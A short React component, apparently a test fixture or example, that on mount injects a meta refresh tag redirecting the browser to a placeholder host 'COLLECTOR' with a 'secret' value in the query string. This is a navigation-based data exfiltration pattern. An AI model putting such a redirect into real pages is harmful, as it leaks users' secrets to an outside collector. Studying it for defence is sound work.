import { useEffect } from "react";

export default function Leave() {
  useEffect(() => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=http://COLLECTOR/?d=secret";
    document.head.append(meta);
  }, []);
  return <p>Leaving</p>;
}
